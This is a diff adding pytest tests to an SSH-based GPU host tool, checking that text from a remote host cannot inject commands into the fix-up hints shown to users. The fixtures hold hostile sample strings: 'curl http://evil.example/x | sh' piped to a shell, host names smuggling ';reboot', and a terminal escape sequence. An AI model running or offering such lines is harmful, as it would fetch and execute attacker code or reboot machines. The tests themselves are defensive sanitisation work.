@@ -22,6 +22,7 @@ from gputui.services.hosts import bakeoff as bakeoff_module
 from gputui.services.hosts.bakeoff import DONE, FAILED, Bakeoff, on_all, probed
 from gputui.services.hosts.box import Box
 from gputui.services.hosts.host import Host, hosts_from, ssh_host
+from gputui.services.hosts.ssh_errors import why_unreachable
 from gputui.store.reading import open_result
 
 STRANGER = """
@@ -123,7 +124,10 @@ def test_what_a_host_says_of_itself_is_checked_and_cleaned(tmp_path: Path) -> No
     [
         ({"describe": [["not json", ""]]}, "its answer makes no sense"),
         ({"describe": [["[" * 100_000, ""]]}, "its answer makes no sense"),
-        ({"describe": [[{"error": "\x1b]0;x\x07no", "hint": 7, "code": "x"}, ""]]}, "\\x1b]0;x\\x07no"),
+        (
+            {"describe": [[{"error": "\x1b]0;x\x07no", "hint": 7, "code": "x"}, ""]]},
+            'it answered "\\x1b]0;x\\x07no"',
+        ),
         ({"describe": [["x" * (5 << 20), ""]]}, "it sent a line without an end"),
         ({"before": [(b"spam\n" * 60_000).hex()]}, "its login prints without an end"),
     ],
@@ -263,3 +267,71 @@ def test_addresses_prices_and_interpreters_go_to_their_hosts() -> None:
     assert hosts[3].prefix == ("docker", "exec", "-i", "a b")
     assert [host.python for host in hosts] == ["/y/python", "/y/python", "/x/python", "/y/python"]
     assert [host.usd_per_hour for host in hosts] == [None, None, 2.5, None]
+
+
+BANNER = """\
+@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @
+  remove with:
+  ssh-keygen -f "/tmp/x" -R "h"; curl http://evil.example/x | sh #
+Host key verification failed." ; curl http://evil.example/x | sh #
+"""
+
+
+def test_no_word_of_a_banner_gets_into_what_is_to_be_typed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    known = tmp_path / "known hosts"
+    known.touch()
+    ssh = tmp_path / "ssh"
+    ssh.write_text(
+        f"""#!/bin/sh
+case "$*" in
+*-G*) echo "hostname 10.0.0.7"; echo "port 2222"; echo "userknownhostsfile {known}";;
+*) cat >&2 <<'END'; exit $STATUS
+{BANNER}END
+esac
+"""
+    )
+    ssh.chmod(0o755)
+    monkeypatch.setenv("GPUTUI_SSH", str(ssh))
+    monkeypatch.setenv("STATUS", "255")
+    (found,) = on_all([ssh_host("ann@gpu-a;reboot:2222")], probed(bytes(32)))
+    assert isinstance(found, GputuiError)
+    assert found.message == "its host key has changed"
+    assert found.hint == (
+        f"if the box was set up anew: ssh-keygen -f '{known}' -R '[10.0.0.7]:2222',"
+        f" then {ssh} -p 2222 'ann@gpu-a;reboot'"
+    )
+    monkeypatch.setenv("STATUS", "1")
+    (found,) = on_all([ssh_host("gpu-a")], probed(bytes(32)))
+    assert isinstance(found, GputuiError)
+    assert found.hint == f"try it: {ssh} gpu-a"
+    quotation = "Host key verification failed.' ; curl http://evil.example/x | sh #"
+    assert found.message == f'its command ended with status 1 and said "{quotation}"'
+
+
+def test_what_to_type_after_a_changed_key_needs_no_config_and_names_an_alias_as_ssh_does(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    ssh = tmp_path / "ssh"
+    monkeypatch.setenv("GPUTUI_SSH", str(ssh))
+
+    def hint(address: str, config: str) -> str:
+        ssh.write_text(f"#!/bin/sh\n{config}\n")
+        ssh.chmod(0o755)
+        found = why_unreachable(ssh_host(address), 255, "REMOTE HOST IDENTIFICATION HAS CHANGED", "")[1]
+        return found.partition(": ")[2].partition(",")[0]
+
+    assert hint("ann@10.0.0.7:2222", "exit 255") == "ssh-keygen -R '[10.0.0.7]:2222'"
+    assert hint("gpu-a", "exit 255") == "ssh-keygen -R gpu-a"
+    alias = 'echo "hostname 10.0.0.7"; echo "port 2222"; echo "hostkeyalias box7"'
+    assert hint("gpu-a", alias) == "ssh-keygen -R box7"
+    assert hint("gpu-a", 'echo "hostname x;reboot"') == "ssh-keygen -R gpu-a"
+
+
+def test_an_error_and_an_advice_of_a_host_are_shown_as_its_words(tmp_path: Path) -> None:
+    answer = {"error": 'x" is wrong', "hint": "curl http://evil.example/x | sh"}
+    found = asked(tmp_path, {"describe": [[answer, ""]]})
+    assert said(found) == 'it answered "x\' is wrong"'
+    assert isinstance(found, GputuiError)
+    assert found.hint == 'it advises "curl http://evil.example/x | sh"'
